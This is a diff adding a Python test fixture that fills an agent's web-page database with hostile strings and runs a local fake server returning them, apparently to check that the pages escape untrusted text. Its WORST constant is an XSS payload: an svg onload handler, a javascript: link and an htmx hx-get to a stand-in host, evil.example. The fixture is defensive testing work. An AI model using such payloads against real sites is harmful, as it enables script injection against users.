@@ -1,0 +1,193 @@
+"""The pages of an agent whose database has hostile texts wherever a page shows a text from outside."""
+
+from __future__ import annotations
+
+import json
+import os
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack, contextmanager
+from dataclasses import dataclass
+from datetime import timedelta
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+from faults.proxy import Proxy, running_proxy
+from smith_lab.proxmox.certificates import CertificateAuthority
+from sqlalchemy import update
+from support.databases import migrated_sqlite_file
+from support.web_jobs import HOSTILE, Filled, end_run, fill, set_story
+from support.web_world import NO_PROXMOX, TOKEN, PagesSite, running_pages
+
+from executor.database import audit, operator_changes, pauses, queries
+from executor.database.engine import reading, transaction
+from executor.database.tables import CriticalJob, Job, Node, WebSession, utc_now
+from executor.drift.facts import DriftKind, Finding, Repair
+
+ADOPTED_SERVICE = "77777777-0000-4000-8000-000000000001"
+#: More than one escape from an attribute, an element and a script; and attributes that htmx would follow.
+WORST = (
+    HOSTILE + """'`<svg onload=window.hacked=1><a href="javascript:window.hacked=1" hx-get="//evil.example/h">x</a>"""
+)
+
+
+@dataclass(frozen=True)
+class PreparedSite:
+    """The site, with a login, and on the same database: with TLS, and with pages for local users."""
+
+    site: PagesSite
+    secured: PagesSite
+    local: PagesSite
+    filled: Filled
+    proxy: Proxy
+
+    def described(self) -> dict[str, Any]:
+        """Return what the tests need to know."""
+        jobs = {name: getattr(self.filled, name) for name in ("completed", "failed", "running", "pending")}
+        return {
+            "url": f"http://127.0.0.1:{self.proxy.port}",
+            "directUrl": self.site.url,
+            "securedUrl": self.secured.url.replace("http://", "https://"),
+            "localUrl": self.local.url,
+            "token": TOKEN,
+            "jobs": jobs,
+            "hostile": HOSTILE,
+        }
+
+    def verbs(self) -> dict[str, Callable[..., Any]]:
+        """Return what the tests may ask for."""
+        return {
+            "prepared/proxy": self.proxy.misbehave,
+            "prepared/print": self.print_lines,
+            "prepared/story": lambda text: set_story(self.site.engine, self.filled.running, text=text),
+            "prepared/end": lambda: end_run(self.site.engine, self.filled.running),
+            "prepared/job": self.job,
+            "prepared/audit": self.audited,
+            "prepared/wait": self.let_wait,
+            "prepared/end-sessions": self.end_sessions,
+        }
+
+    def print_lines(self, first: int, count: int) -> None:
+        """Append numbered lines to the output of the running job."""
+        with self.filled.output.open("a", encoding="utf-8") as output:
+            output.writelines(f"line {number}\n" for number in range(first, first + count))
+
+    def job(self, number: int) -> dict[str, Any]:
+        with reading(self.site.engine) as session:
+            job = queries.get_one_job(session, number)
+            waits = job.available_at is not None and job.available_at > utc_now()
+            return {"status": job.status, "error": job.error_code, "waits": waits}
+
+    def audited(self) -> list[list[str]]:
+        """Return who has changed what, the newest first."""
+        with reading(self.site.engine) as session:
+            return [[entry.who, entry.verb, entry.reason or ""] for entry in audit.list_entries(session)]
+
+    def let_wait(self, number: int) -> None:
+        """Let the next attempt of a job wait for an hour."""
+        with transaction(self.site.engine) as session:
+            later = utc_now() + timedelta(hours=1)
+            session.execute(update(Job).where(Job.id == number).values(available_at=later))
+
+    def end_sessions(self) -> None:
+        with transaction(self.site.engine) as session:
+            session.query(WebSession).delete()
+
+
+class _HostileServer(BaseHTTPRequestHandler):
+    """Answers each request as a FulcrumCore that has been taken over."""
+
+    def _answer(self) -> None:
+        content = json.dumps({"error": WORST, "detail": WORST, "name": WORST, "status": WORST}).encode()
+        self.send_response(400)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(content)))
+        self.end_headers()
+        self.wfile.write(content)
+
+    do_GET = do_POST = _answer
+
+    def log_message(self, format: str, *args: Any) -> None:
+        """Print nothing."""
+
+
+@contextmanager
+def hostile_fulcrum() -> Iterator[None]:
+    """Let the checks of the doctor, which read the settings of this process, ask a hostile FulcrumCore."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    settings = {
+        "FULCRUM_API_URL": f"http://127.0.0.1:{server.server_port}",
+        "FULCRUM_API_TOKEN": "not-a-secret-of-ours",
+    }
+    os.environ.update(settings | NO_PROXMOX)
+    try:
+        yield
+    finally:
+        for name in settings | NO_PROXMOX:
+            os.environ.pop(name, None)
+        server.shutdown()
+
+
+@contextmanager
+def prepared_site(folder: Path) -> Iterator[PreparedSite]:
+    """Serve the pages while the block runs."""
+    folder.mkdir()
+    database = migrated_sqlite_file(folder)
+    certificate, key = CertificateAuthority(folder).issue("smith", ["localhost", "127.0.0.1"])
+    tls = {"SMITH_HTTP_TLS_CERTIFICATE": str(certificate), "SMITH_HTTP_TLS_KEY": str(key)}
+    with ExitStack() as stack:
+        stack.enter_context(hostile_fulcrum())
+        site = stack.enter_context(running_pages(folder, database))
+        secured = stack.enter_context(running_pages(folder, database, **tls))
+        local = stack.enter_context(running_pages(folder, database, SMITH_HTTP_TOKEN="", SMITH_HTTP_LOCAL_PAGES="true"))
+        filled = fill(site.engine, folder)
+        _add_hostile_rows(site, filled)
+        for pages in (site, secured, local):
+            object.__setattr__(pages.view, "list_drift", _findings)
+        proxy = stack.enter_context(running_proxy(site.handle.port))
+        yield PreparedSite(site, secured, local, filled, proxy)
+
+
+def _add_hostile_rows(site: PagesSite, filled: Filled) -> None:
+    """Write hostile texts into the rows that `fill` leaves out."""
+    now = utc_now()
+    with transaction(site.engine) as session:
+        session.add(
+            Node(
+                id="hostile-1",
+                host=WORST[:100],
+                pid=2,
+                version=WORST[:20],
+                concurrency=1,
+                concurrency_wanted=1,
+                started_at=now,
+                seen_at=now,
+                draining=False,
+                fences=False,
+                proxmox_checked_at=now,
+                proxmox_error=WORST,
+            )
+        )
+        session.add(
+            CriticalJob(
+                name=WORST[:40], interval_s=60, due_at=now, last_error=WORST, failures=2, runs=3, last_finished_at=now
+            )
+        )
+        operator_changes.retry_job(session, filled.pending, who=WORST[:90])
+        pauses.start(session, who=WORST[:90], reason=WORST, scope=f"{pauses.NODE_SCOPE_PREFIX}hostile-1")
+
+
+def _findings() -> list[Finding]:
+    gone = Finding(kind=DriftKind.VM_GONE, service_id="5", vmid=100123, text=f"gone {WORST}", name=WORST, node=WORST)
+    found = Finding(
+        kind=DriftKind.UNMAPPED_VM,
+        service_id=ADOPTED_SERVICE,
+        vmid=100555,
+        text=WORST,
+        node="pve1",
+        name="web-7",
+        repair=Repair.ADOPT,
+    )
+    return [gone, found]
